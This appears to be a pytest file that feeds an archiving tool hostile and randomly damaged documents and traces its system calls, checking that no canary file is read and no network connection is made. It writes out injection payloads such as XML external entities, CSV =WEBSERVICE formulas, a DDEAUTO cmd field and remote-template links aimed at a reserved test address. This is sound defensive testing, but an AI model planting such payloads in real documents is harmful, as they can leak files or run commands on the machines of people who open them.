"""A whole batch of damaged and hostile documents, every system call on files and sockets watched: nothing gets out."""

from __future__ import annotations

import re
import zipfile
from collections import defaultdict
from io import BytesIO
from random import Random
from typing import TYPE_CHECKING

import pytest

from fuzz.families.office import TARGETS, office_document
from fuzz.mutation import malformed
from fuzz.target import Target
from tests.corpus.documents import documents
from tests.corpus.office import docx_parts, odp, odt, word_paragraph, zipped

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.stories.commands import Archiver

SEED = 20261122
EACH = 4
"""Damaged documents of every format."""

WATCHED = "open,openat,openat2,socket,connect,sendto,sendmsg,execve,execveat"
_CALL = re.compile(r"(\w+)\((.*)\) += (-?\d+)")
_UNFINISHED = "<unfinished ...>"
_RESUMED = re.compile(r"<\.\.\. \w+ resumed>(.*)")


def hostile(secret: Path) -> dict[str, bytes]:
    """Return documents of every way that name the secret file, or a machine, in each manner their format has."""
    uri, host = secret.as_uri(), "http://192.0.2.1"  # TEST-NET-1: nobody's
    pictures = "".join(f'<img src="{one}">' for one in (uri, f"{host}/a.png", str(secret), f"//192.0.2.1{secret}"))
    page = f"""<html><head><link rel="stylesheet" href="{uri}"><style>@import "{uri}"; p {{ background: url({host}/b) }}
        </style><base href="{host}"></head><body><p>Words.</p>{pictures}<iframe src="{uri}"></iframe>
        <object data="{uri}"></object><svg><image href="{uri}"/></svg></body></html>"""
    entity = f'<!DOCTYPE a [<!ENTITY b SYSTEM "{uri}"><!ENTITY % c SYSTEM "{host}/d"> %c;]><a>&b;</a>'
    mail = f"From: a@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: text/html\n\n{page}"
    return {
        "hostile.html": page.encode(),
        "hostile.md": f"# Words\n\n![a]({uri}) ![b]({host}/c.png)\n\n{pictures}\n".encode(),
        "hostile.rst": f"Words\n=====\n\n.. include:: {secret}\n\n.. image:: {uri}\n\n.. raw:: html\n"
        f"   :file: {secret}\n\n.. csv-table::\n   :url: {host}/t.csv\n".encode(),
        "hostile.xml": entity.encode(),
        "hostile.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{uri}"/></svg>'.encode(),
        "hostile.eml": mail.encode(),
        "hostile.csv": f'a,b\n"=HYPERLINK(""{uri}"")","=WEBSERVICE(""{host}"")"\n'.encode(),
        "hostile.json": f'{{"$ref": "{uri}"}}'.encode(),
    }


def hostile_office(secret: Path) -> dict[str, bytes]:
    """Return office documents that name the secret file, or a machine, by links, fields, sections and macros."""
    uri, host = secret.as_uri(), "http://192.0.2.1"
    linked = "".join(
        f'<Relationship Id="x{number}" TargetMode="External" Target="{target}" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{kind}"/>'
        for number, (kind, target) in enumerate(
            [("image", uri), ("image", f"{host}/a.png"), ("attachedTemplate", f"{host}/b.dotm"), ("oleObject", uri)]
        )
    )
    fields = "".join(
        f"<w:p><w:fldSimple w:instr='{code} \"{target}\"'><w:r><w:t>words</w:t></w:r></w:fldSimple></w:p>"
        for code in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Word.Document.8", "DDEAUTO cmd")
        for target in (secret, f"{host}/c")
    )
    shape = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:50pt;height:50pt">'
        '<v:imagedata r:id="x0"/></v:shape><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'style="width:50pt;height:50pt"><v:imagedata r:id="x1"/></v:shape></w:pict></w:r></w:p>'
    )
    names = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    drawn = "".join(
        f'<text:section text:name="s{number}" {names}><text:section-source xlink:href="{target}"/></text:section>'
        f'<text:p><draw:frame svg:width="5cm" svg:height="5cm" {names}><draw:image xlink:href="{target}"/></draw:frame>'
        f'<draw:frame svg:width="5cm" svg:height="5cm" {names}><draw:object xlink:href="{target}"/></draw:frame>'
        "</text:p>"
        for number, target in enumerate((uri, f"{host}/d.png", f"\\\\192.0.2.1{secret}"))
    )
    rich = "".join(
        f'{{\\field{{\\*\\fldinst {code} "{target}"}}{{\\fldrslt words}}}}\\par\n'
        for code in ("INCLUDEPICTURE", "INCLUDETEXT", "IMPORT")
        for target in (secret, uri, f"{host}/e.png")
    )
    return {
        "hostile.docx": zipped(docx_parts(word_paragraph("words") + fields + shape, relationships=linked)),
        "hostile.odt": with_content(odt("words", "MARK"), drawn),
        "hostile.odp": with_content(odp("words MARK"), drawn),
        "hostile.rtf": b"{\\rtf1\\ansi{\\*\\template http://192.0.2.1/t.dotm}\n" + rich.encode() + b"}",
    }


def with_content(document: bytes, more: str) -> bytes:
    """Return an OpenDocument file with ``more`` after its first paragraph's end."""
    with zipfile.ZipFile(BytesIO(document)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["content.xml"] = parts["content.xml"].replace(b"</text:p>", b"</text:p>" + more.encode(), 1)
    return zipped(parts, stored=("mimetype",))


def damaged_office() -> dict[str, bytes]:
    """Return office documents whose main parts are spoilt at random, always in the same way."""
    chance = Random(SEED)  # noqa: S311 - damage, not secrets
    (target,) = (one for one in TARGETS if one.name == "libreoffice")
    made: dict[str, bytes] = {}
    while len(made) < 2 * EACH:
        extension, content = office_document(malformed(target, chance))
        made[f"damaged-{len(made)}.{extension}"] = content
    return made


def damaged(home: Path) -> dict[str, bytes]:
    """Return documents of every format, spoilt at random, always in the same way."""
    kinds: defaultdict[str, list[bytes]] = defaultdict(list)
    for name, content in sorted(documents(home, office=False).items()):
        kinds[name.rpartition(".")[2]].append(content)
    chance = Random(SEED)  # noqa: S311 - damage, not secrets
    return {
        f"damaged-{number}.{kind}": malformed(_target(kind, contents), chance)
        for kind, contents in sorted(kinds.items())
        for number in range(EACH)
    }


def _target(kind: str, contents: list[bytes]) -> Target:
    return Target(name=kind, seeds=tuple(contents), tokens=(), check=lambda _: None)


def test_nothing_gets_out_of_a_batch(strace: str, archiver: Archiver, tmp_path: Path) -> None:
    secret = canary(tmp_path)
    built(hostile(secret) | damaged(tmp_path / "made"), strace, archiver, tmp_path)
    nothing_got_out(tmp_path, secret, {"made"})


@pytest.mark.judge("libreoffice")
def test_nothing_gets_out_of_libreoffice(strace: str, archiver: Archiver, tmp_path: Path) -> None:
    secret = canary(tmp_path)
    built(hostile_office(secret) | damaged_office(), strace, archiver, tmp_path)
    calls = nothing_got_out(tmp_path, secret, set())
    started = {call[2].partition(",")[0] for call in calls if call[1] == "execve" and call[3] == 0}
    assert len([path for path in started if "soffice" in path]) == 1, "LibreOffice was not watched"
    assert len(started) <= 3, f"programs were started: {started}"  # the command, its workers, LibreOffice


def canary(folder: Path) -> Path:
    """Make a file that nobody may open."""
    secret = folder / "canary.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\nUNHEARDOF")
    return secret


def built(sources: dict[str, bytes], strace: str, archiver: Archiver, tmp_path: Path) -> None:
    """Build packages of the documents, each of them told of, and write down every call that is watched."""
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    for name, content in sources.items():
        (seeds / name).write_bytes(content)
    prefix: list[str | Path] = [strace, "-f", "-s", "4096", "-o", tmp_path / "log", "-e", f"trace={WATCHED}"]
    ran = archiver("build", seeds, "--out", tmp_path / "out", "--json", cwd=tmp_path, prefix=prefix)

    assert ran.status in {0, 3}, ran.stderr
    assert {one["item"] for one in ran.objects} == sources.keys()


def nothing_got_out(tmp_path: Path, secret: Path, made: set[str]) -> list[tuple[int, str, str, int]]:
    """Hold that no call opened the secret or spoke to a network, and no file has it; return the calls."""
    calls = list(_calls(tmp_path / "log"))
    assert len({pid for pid, *_ in calls}) > 2, "no worker was watched"
    assert [call for call in calls if "canary" in call[2] and call[1].startswith("open") and call[3] >= 0] == []
    assert [call for call in calls if re.search(r"AF_INET6?\b", call[2]) and call[3] >= 0] == []
    assert not any(b"UNHEARDOF" in file.read_bytes() for file in (tmp_path / "out").rglob("*") if file.is_file())
    assert {path.name for path in tmp_path.iterdir()} <= {"seeds", "out", "log", secret.name, *made}
    return calls


def _calls(log: Path) -> Iterator[tuple[int, str, str, int]]:
    """Yield process, name, arguments and result of every call that returned."""
    begun: dict[str, str] = {}
    for line in log.read_text(encoding="utf-8", errors="replace").splitlines():
        pid, _, rest = line.partition(" ")
        if rest.endswith(_UNFINISHED):
            begun[pid] = rest.removesuffix(_UNFINISHED).strip()
            continue
        if resumed := _RESUMED.match(rest.strip()):
            rest = begun.pop(pid, "") + resumed[1]
        if match := _CALL.match(rest.strip()):
            yield int(pid), match[1], match[2], int(match[3])
